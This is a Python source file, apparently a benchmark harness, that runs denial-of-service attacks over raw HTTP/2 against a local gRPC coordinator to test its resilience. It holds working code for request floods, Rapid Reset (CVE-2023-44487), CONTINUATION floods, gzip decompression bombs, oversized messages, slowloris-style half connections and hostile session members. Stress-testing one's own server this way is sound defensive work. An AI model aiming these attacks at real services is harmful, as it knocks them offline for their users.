"""Attacks on a coordinator, each by a process of its own, over raw HTTP/2.

    python -m benchmarks.attacks.attacker NAME PORT --hello FILE --seconds 5 [--plain]

An attacker comes from an address of its own (`SOURCE`), so that what bounds an address does not
bound the honest workers beside it. It prints one line of JSON as it begins, once its connections
are open, and one at its end: `{"connections": most open at a time, "actions": what it did}`.
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
import resource
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from benchmarks.serving.swarm import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    call_frame,
    frame,
    message_frame,
    preface,
    tls_context,
)
from fedmezo_proto.v1 import coordinator_pb2 as wire

HOST = "127.0.0.1"
SOURCE = "127.0.0.66"
"""The attackers' address; all of 127.0.0.0/8 is this machine."""
CALLS = 16
"""Streams that a coordinator lets a connection have."""
CROWD = 300
"""Connections of the attacks that hold many."""
FLOODING = 4
"""Connections of the attacks that send much."""
GZIP_FLAG_HEADER = b"\x00\x0dgrpc-encoding\x04gzip"


class Connection:
    """One hostile connection."""

    def __init__(self, port: int, *, tls: bool, opens: bytes | None = None) -> None:
        """`opens` is what it says first; by default the preface of HTTP/2."""
        self.sock: socket.socket = socket.socket()
        self.sock.settimeout(5.0)
        self.sock.bind((SOURCE, 0))
        self.sock.connect((HOST, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            self.sock = tls_context().wrap_socket(self.sock, server_hostname=HOST)
        self.stream = -1
        self.open_calls = 0
        self._buffer = bytearray()
        self.send(preface() if opens is None else opens)

    def send(self, data: bytes) -> None:
        """Send all of it."""
        self.sock.sendall(data)

    def call(self, method: str, *bodies: bytes, last: bool = True) -> None:
        """Begin a call."""
        self.stream += 2
        self.open_calls += 1
        frames = [call_frame(method, HOST, self.stream)]
        for number, body in enumerate(bodies):
            ends = last and number == len(bodies) - 1
            frames.append(message_frame(body, stream=self.stream, last=ends))
        self.send(b"".join(frames))

    def take(self) -> int:
        """Take what has come; returns how many calls have ended. Raises `OSError` at the end."""
        data = self.sock.recv(256 * 1024)
        while isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            data += self.sock.recv(256 * 1024)
        if not data:
            raise ConnectionResetError
        self._buffer += data
        start, ended, buffer = 0, 0, self._buffer
        while len(buffer) - start >= 9:
            end = start + 9 + int.from_bytes(buffer[start : start + 3], "big")
            if len(buffer) < end:
                break
            kind, flags = buffer[start + 3], buffer[start + 4]
            if (kind == HEADERS and flags & END_STREAM) or kind == RST_STREAM:
                ended += 1
            elif kind in (SETTINGS, PING) and not flags & ACK:
                payload = bytes(buffer[start + 9 : end]) if kind == PING else b""
                self.send(frame(kind, ACK, 0, payload))
            elif kind == GOAWAY:
                raise ConnectionResetError
            start = end
        del buffer[:start]
        self.open_calls -= ended
        return ended

    def close(self) -> None:
        """Break it off."""
        self.sock.close()


class Attack:
    """What every attack has: where it goes, until when, and what it counts."""

    def __init__(
        self, port: int, seconds: float, hello: wire.Hello, *, crowd_size: int, tls: bool
    ) -> None:
        self.port = port
        self.end_s = time.monotonic() + seconds
        self.hello = hello
        self.crowd_size = crowd_size
        self.tls = tls
        self.connections = 0
        self.actions = 0

    def connect(self, opens: bytes | None = None, *, tls: bool | None = None) -> Connection | None:
        """One more connection, if the coordinator takes it."""
        try:
            return Connection(self.port, tls=self.tls if tls is None else tls, opens=opens)
        except OSError:
            return None

    def crowd(self, count: int, opens: bytes | None = None) -> list[Connection]:
        """Many connections at once."""
        found = [self.connect(opens) for _ in range(count)]
        opened = [connection for connection in found if connection is not None]
        self.opened(len(opened))
        return opened

    def opened(self, count: int) -> None:
        """Say how many connections are open, and so that the attack begins now."""
        first, self.connections = not self.connections, max(self.connections, count)
        if first:
            print(json.dumps({"connections": count}), flush=True)

    @property
    def goes_on(self) -> bool:
        """Whether its time is not over."""
        return time.monotonic() < self.end_s

    def wait(self) -> None:
        """Hold what is held until its time is over."""
        while self.goes_on:
            time.sleep(0.05)

    def flood(
        self,
        method: str,
        body_of: Callable[[], bytes],
        connections: int = FLOODING,
        calls: int = CALLS,
    ) -> None:
        """As many calls at a time as the connections take, each followed by another at once."""
        crowd = self.crowd(connections)
        while self.goes_on:
            for connection in crowd:
                with suppress(OSError):
                    while connection.open_calls < calls:
                        connection.call(method, body_of())
                        self.actions += 1
            by_number = {c.sock.fileno(): c for c in crowd if c.sock.fileno() >= 0}
            ready, _, _ = select.select(list(by_number), [], [], 0.05)
            for number in ready:
                try:
                    by_number[number].take()
                except OSError:
                    by_number[number].close()
            crowd = [c for c in crowd if c.sock.fileno() >= 0]
            while len(crowd) < connections and self.goes_on:
                fresh = self.connect()
                if fresh is None:
                    time.sleep(0.05)
                    break
                crowd.append(fresh)

    def shout(self, data_of: Callable[[Connection], bytes], connections: int = FLOODING) -> None:
        """Send bytes as fast as the coordinator takes them; connect again when it hangs up."""
        crowd: list[Connection | None] = list(self.crowd(connections))
        while self.goes_on:
            for place, connection in enumerate(crowd):
                if connection is None:
                    crowd[place] = self.connect()
                    continue
                try:
                    connection.send(data_of(connection))
                    self.actions += 1
                    if select.select([connection.sock], [], [], 0)[0]:
                        connection.take()
                except OSError:
                    connection.close()
                    crowd[place] = None


# ---------------------------------------------------------------- the attacks


def status_flood(attack: Attack) -> None:
    """64 calls of GetStatus at a time."""
    attack.flood("GetStatus", lambda: b"")


def poll_flood(attack: Attack) -> None:
    """64 calls of PollSession at a time, with tokens of no session."""
    attack.flood(
        "PollSession",
        lambda: wire.PollSessionRequest(token=random.randbytes(16)).SerializeToString(),
    )


def page_flood(attack: Attack) -> None:
    """64 pages of the journal at a time."""
    attack.flood(
        "ReadJournal", lambda: wire.ReadJournalRequest(records_max=4096).SerializeToString()
    )


def crowd_flood(attack: Attack) -> None:
    """16 calls of GetRun at a time on each of many connections."""
    attack.flood(
        "GetRun",
        lambda: wire.GetRunRequest(protocol_versions=[1]).SerializeToString(),
        connections=attack.crowd_size // 3,
    )


def rapid_reset(attack: Attack) -> None:
    """Calls that are reset as soon as they are opened (CVE-2023-44487)."""

    def resets(connection: Connection) -> bytes:
        frames = []
        for _ in range(50):
            connection.stream += 2
            frames.append(call_frame("GetStatus", HOST, connection.stream))
            frames.append(frame(RST_STREAM, 0, connection.stream, struct.pack(">I", 8)))
        return b"".join(frames)

    attack.shout(resets)


def pings(attack: Attack) -> None:
    """PING frames."""
    attack.shout(lambda _: frame(PING, 0, 0, bytes(8)) * 100)


def settings(attack: Attack) -> None:
    """SETTINGS frames that change the windows to and fro."""
    two = [frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + n)) for n in range(2)]
    attack.shout(lambda _: b"".join(two) * 50)


def continuations(attack: Attack) -> None:
    """A block of headers that never ends (CVE-2024-27316 and its kind)."""
    header = b"\x00\x01x" + b"\x7f\x81\x00" + b"y" * 256

    def headers(connection: Connection) -> bytes:
        connection.stream += 2
        return frame(HEADERS, 0, connection.stream, header) + b"".join(
            frame(9, 0, connection.stream, header * 16) for _ in range(20)
        )

    attack.shout(headers)


def malformed(attack: Attack) -> None:
    """Frames of random bytes, and sound frames with messages that are none."""

    def garbage(connection: Connection) -> bytes:
        if random.random() < 0.2:
            return random.randbytes(2000)
        connection.stream += 2
        return call_frame("PollSession", HOST, connection.stream) + message_frame(
            random.randbytes(500), stream=connection.stream, last=True
        )

    attack.shout(garbage)


def oversized(attack: Attack) -> None:
    """Messages of 1 MiB, far above the limit, in frames of 16 KiB."""
    chunk = bytes(16_384)

    def big(connection: Connection) -> bytes:
        connection.stream += 2
        first = b"\0" + struct.pack(">I", 2**20) + chunk[5:]
        body = [frame(DATA, 0, connection.stream, first)]
        body += [frame(DATA, 0, connection.stream, chunk)] * 4
        return call_frame("PollSession", HOST, connection.stream) + b"".join(body)

    attack.shout(big)


def bombs(attack: Attack) -> None:
    """Compressed messages, 60 KB on the wire and 60 MB unpacked."""
    body = gzip.compress(bytes(60_000_000))
    message = b"\1" + struct.pack(">I", len(body)) + body

    def bomb(connection: Connection) -> bytes:
        connection.stream += 2
        opening = bytearray(call_frame("PollSession", HOST, connection.stream))
        headers = bytes(opening[9:]) + GZIP_FLAG_HEADER
        pieces = [message[at : at + 16_384] for at in range(0, len(message), 16_384)]
        frames = [frame(HEADERS, END_HEADERS, connection.stream, headers)]
        frames += [
            frame(DATA, END_STREAM if piece is pieces[-1] else 0, connection.stream, piece)
            for piece in pieces
        ]
        return b"".join(frames)

    attack.shout(bomb)


def half_handshakes(attack: Attack) -> None:
    """Many connections with half a TLS handshake, or half a preface."""
    hello = bytes.fromhex("1603010200010001fc0303") + bytes(64)
    crowd = [attack.connect(hello, tls=False) for _ in range(attack.crowd_size)]
    attack.opened(sum(connection is not None for connection in crowd))
    attack.wait()


def half_bodies(attack: Attack) -> None:
    """Many connections, each with 16 messages whose ends never come."""
    crowd = attack.crowd(attack.crowd_size)
    unfinished = b"\0" + struct.pack(">I", 60_000) + bytes(16_000)
    for connection in crowd:
        with suppress(OSError):
            for _ in range(CALLS):
                connection.call("PollSession", last=False)
                for part in (unfinished, bytes(16_000), bytes(16_000), bytes(11_000)):
                    connection.send(frame(DATA, 0, connection.stream, part))
                    attack.actions += 1
    attack.wait()


def slow_readers(attack: Attack) -> None:
    """Many connections that ask for 16 pages each and read nothing."""
    crowd = attack.crowd(attack.crowd_size)
    request = wire.ReadJournalRequest(records_max=4096).SerializeToString()
    for connection in crowd:
        with suppress(OSError):
            for _ in range(CALLS):
                connection.call("ReadJournal", request)
                attack.actions += 1
    attack.wait()


def idle(attack: Attack) -> None:
    """Many connections with a whole preface and nothing more."""
    _kept = attack.crowd(attack.crowd_size)
    attack.wait()


def reconnects(attack: Attack) -> None:
    """Sessions that are opened and broken off at once, each on a new connection."""
    attack.opened(1)
    hello = wire.SessionRequest(hello=attack.hello).SerializeToString()
    while attack.goes_on:
        connection = attack.connect()
        if connection is None:
            continue
        with suppress(OSError):
            connection.call("Session", hello, last=False)
            attack.actions += 1
        connection.close()


def names(attack: Attack) -> None:
    """Sessions under ever new names, which leave as soon as they have joined."""

    def body() -> bytes:
        hello = wire.Hello()
        hello.CopyFrom(attack.hello)
        hello.worker = f"x-{random.randbytes(12).hex()}"
        return wire.PollSessionRequest(
            messages=[wire.SessionRequest(hello=hello)], leave=True
        ).SerializeToString()

    attack.flood("PollSession", body)


def _members(attack: Attack, count: int) -> list[Connection]:
    """Members that have joined by streams."""
    crowd = attack.crowd(count)
    for number, connection in enumerate(crowd):
        hello = wire.Hello()
        hello.CopyFrom(attack.hello)
        hello.worker = f"hostile-{number}"
        connection.call("Session", wire.SessionRequest(hello=hello).SerializeToString(), last=False)
    return crowd


def stale_answers(attack: Attack) -> None:
    """Members that answer tickets of no open round, as fast as they can, and read the refusals."""
    body = wire.SessionRequest(
        answer=wire.Answer(ticket=wire.Ticket(epoch=1, round=1, slot=3), projected_grads=[0.5])
    ).SerializeToString()
    crowd = _members(attack, 2)
    while attack.goes_on:
        for connection in crowd:
            with suppress(OSError):
                connection.send(message_frame(body) * 50)
                attack.actions += 50
                while select.select([connection.sock], [], [], 0)[0]:
                    connection.take()


def deaf_members(attack: Attack) -> None:
    """Members that join, take what they are assigned, and neither answer nor read."""
    _kept = _members(attack, 20)
    attack.wait()


ATTACKS: dict[str, Callable[[Attack], None]] = {
    "status-flood": status_flood,
    "poll-flood": poll_flood,
    "page-flood": page_flood,
    "crowd-flood": crowd_flood,
    "rapid-reset": rapid_reset,
    "pings": pings,
    "settings": settings,
    "continuations": continuations,
    "malformed": malformed,
    "oversized": oversized,
    "bombs": bombs,
    "half-handshakes": half_handshakes,
    "half-bodies": half_bodies,
    "slow-readers": slow_readers,
    "idle": idle,
    "reconnects": reconnects,
    "names": names,
    "stale-answers": stale_answers,
    "deaf-members": deaf_members,
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument("--crowd", type=int, default=CROWD, help="connections where many are held")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument(
        "--hello", type=Path, required=True, help="bytes of a hello that is welcome"
    )
    parser.add_argument("--plain", action="store_true", help="the coordinator serves no TLS")
    arguments = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    hello = wire.Hello.FromString(arguments.hello.read_bytes())
    attack = Attack(
        arguments.port,
        arguments.seconds,
        hello,
        crowd_size=arguments.crowd,
        tls=not arguments.plain,
    )
    with suppress(OSError):
        ATTACKS[arguments.attack](attack)
    print(json.dumps({"connections": attack.connections, "actions": attack.actions}), flush=True)


if __name__ == "__main__":
    main()
